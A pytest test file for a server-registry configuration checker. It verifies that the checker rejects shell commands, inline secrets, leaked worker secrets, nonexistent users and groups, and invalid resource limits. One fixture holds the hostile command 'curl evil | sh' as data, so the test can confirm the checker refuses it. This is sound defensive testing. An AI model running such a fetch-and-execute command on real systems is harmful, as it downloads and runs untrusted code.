"""The configuration checker refuses unsafe or impossible registries."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.fernet import Fernet

from config.check import check_registry
from config.registry import RegistryError, load_registry
from config.settings import Settings
from tests.isolation import NOBODY, nobody_python


def _problems(tmp_path: Path, body: str, **settings: object) -> list[str]:
    path = tmp_path / "servers.yaml"
    path.write_text(body)
    return [str(p) for p in check_registry(load_registry(path), Settings(**settings)) if p.level == "error"]  # type: ignore[arg-type]


def test_good_registry_has_no_errors(tmp_path: Path) -> None:
    body = f"servers:\n  t:\n    transport: stdio\n    command: {sys.executable}\n    inherit_env: [TZ]\n"
    assert _problems(tmp_path, body) == []


def test_relative_missing_and_shell_commands(tmp_path: Path) -> None:
    relative = "servers:\n  t:\n    transport: stdio\n    command: mcp-x\n"
    assert any("absolute" in p for p in _problems(tmp_path, relative))
    assert any("not an executable" in p
               for p in _problems(tmp_path, "servers:\n  t:\n    transport: stdio\n    command: /nope/server\n"))
    shell = "servers:\n  t:\n    transport: stdio\n    command: /bin/sh\n    args: ['-c', 'curl evil | sh']\n"
    assert any("shell" in p for p in _problems(tmp_path, shell))


def test_inline_secret_refused_placeholder_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_TOKEN", "from-the-environment")
    inline = f"servers:\n  t:\n    transport: stdio\n    command: {sys.executable}\n    env:\n      API_TOKEN: abc123\n"
    assert any("inline" in p for p in _problems(tmp_path, inline))
    placeholder = inline.replace("abc123", "'${API_TOKEN}'")
    assert _problems(tmp_path, placeholder) == []


def test_impossible_timeouts(tmp_path: Path) -> None:
    body = "servers:\n  h:\n    transport: http\n    timeout: 900\n"
    assert any("max_invoke_timeout" in p for p in _problems(tmp_path, body))


# --- stdio isolation: ${NAME}, worker secrets, user/group, limits -------------------------------------
def _stdio(body: str, command: str = sys.executable) -> str:
    return f"servers:\n  t:\n    transport: stdio\n    command: {command}\n" + body


def test_unset_variable_is_named_never_its_neighbours_values(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ISO_UNSET", raising=False)
    monkeypatch.setenv("ISO_SET", "value-s3cret")
    problems = _problems(tmp_path, _stdio("    env:\n      URL: 'https://u:${ISO_UNSET}@h/${ISO_SET}'\n"))
    assert problems == ["error: servers.t.env: ${ISO_UNSET} is not set in the worker's environment"]


def test_worker_secrets_refused_in_env_and_inherit_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key = Fernet.generate_key().decode()
    monkeypatch.setenv("SARK_TOKEN_KEY", key)
    monkeypatch.setenv("SARK_BROKER_URL", "redis://:pw-s3cret@127.0.0.1:6379/0")
    body = ("    env:\n      KEY: '${SARK_TOKEN_KEY}'\n"
            "    inherit_env: [SARK_OPERATOR_KEY, SARK_BROKER_URL, SARK_VAULT_PASSWORD, PATH]\n")
    problems = _problems(tmp_path, _stdio(body))
    assert len(problems) == 4 and all("secret of the worker itself" in p for p in problems)
    assert {p.split(": ")[2].split()[0] for p in problems} == {
        "${SARK_TOKEN_KEY}", "SARK_OPERATOR_KEY", "SARK_BROKER_URL", "SARK_VAULT_PASSWORD"}
    assert not any("s3cret" in p or key in p for p in problems)


def test_malformed_placeholder_is_a_registry_error(tmp_path: Path) -> None:
    path = tmp_path / "servers.yaml"
    path.write_text(_stdio("    env:\n      X: 'a ${not valid} b'\n"))
    with pytest.raises(RegistryError, match=r"must start a \$\{NAME\} placeholder"):
        load_registry(path)


def test_user_must_exist_and_group_needs_a_user(tmp_path: Path) -> None:
    assert _problems(tmp_path, _stdio("    user: nobody\n")) == []
    assert _problems(tmp_path, _stdio("    user: no-such-user-sark\n")) == [
        "error: servers.t.user: user 'no-such-user-sark' does not exist"]
    assert _problems(tmp_path, _stdio("    user: nobody\n    group: no-such-group-sark\n")) == [
        "error: servers.t.user: group 'no-such-group-sark' does not exist"]
    path = tmp_path / "servers.yaml"
    path.write_text(_stdio("    group: nogroup\n"))
    with pytest.raises(RegistryError, match="group is only used together with user"):
        load_registry(path)


def test_user_who_cannot_reach_the_command_is_warned(tmp_path: Path) -> None:
    closed = tmp_path / "closed"  # mode 700, owned by root: nobody cannot enter it
    closed.mkdir(mode=0o700)
    server = closed / "server"
    server.write_text("#!/bin/sh\n")
    server.chmod(0o755)
    path = tmp_path / "servers.yaml"
    path.write_text(_stdio("    user: nobody\n", command=str(server)))
    warnings = [str(p) for p in check_registry(load_registry(path), Settings()) if p.level == "warning"]
    assert warnings == [f"warning: servers.t.user: uid 65534 may not execute {server} (or a folder above it, "
                        "or its symlink target, is closed to it)"]


def test_limits_validate_and_processes_without_user_is_warned(tmp_path: Path) -> None:
    path = tmp_path / "servers.yaml"
    path.write_text(_stdio("    limits: {address_space_mb: 512, open_files: 64, cpu_seconds: 10, processes: 8}\n"))
    warnings = [str(p) for p in check_registry(load_registry(path), Settings()) if p.level == "warning"]
    assert warnings == ["warning: servers.t.limits.processes: not enforced for a server running as root: set user too"]
    path.write_text(_stdio("    limits: {open_files: 2}\n"))
    with pytest.raises(RegistryError, match="open_files"):
        load_registry(path)
    path.write_text(_stdio("    limits: {memory: 5}\n"))
    with pytest.raises(RegistryError, match="memory"):
        load_registry(path)


def test_a_worker_that_is_not_root_cannot_switch_user() -> None:
    python, env = nobody_python()
    repo = Path(__file__).resolve().parents[2]
    code = ("from config.check import check_stdio\nfrom config.registry import StdioServer\n"
            "from config.settings import Settings\n"
            "s = StdioServer(name='t', transport='stdio', command='/bin/true', user='root')\n"
            "print([str(p) for p in check_stdio(s, Settings())])\n")
    env = {**env, "PYTHONPATH": f"{repo}{os.pathsep}{env['PYTHONPATH']}"}
    out = subprocess.run([python, "-c", code], env=env, user=NOBODY, group=NOBODY, extra_groups=[], cwd="/",
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "servers.t.user: the worker runs as uid 65534, not root: it cannot switch to uid 0 gid 0" in out.stdout
